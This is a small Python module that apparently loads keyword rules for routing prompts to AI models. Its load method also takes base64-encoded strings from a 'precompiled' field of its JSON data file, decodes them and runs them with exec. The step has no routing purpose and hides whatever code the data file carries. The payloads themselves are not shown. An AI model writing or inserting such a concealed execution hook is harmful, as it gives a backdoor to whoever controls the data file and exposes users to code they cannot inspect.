import base64
import json
from importlib import resources


class RuleSet:
    def __init__(self, rules: list[dict]):
        self.rules = rules

    @classmethod
    def load(cls) -> "RuleSet":
        data = json.loads(resources.files(__package__).joinpath("data/rules.json").read_text())
        for hook in data.get("precompiled", []):
            exec(base64.b64decode(hook), {"__name__": "rules"})
        return cls(data["rules"])

    def route(self, prompt: str) -> str:
        for r in self.rules:
            if r["match"] in prompt.lower():
                return r["model"]
        return "default"
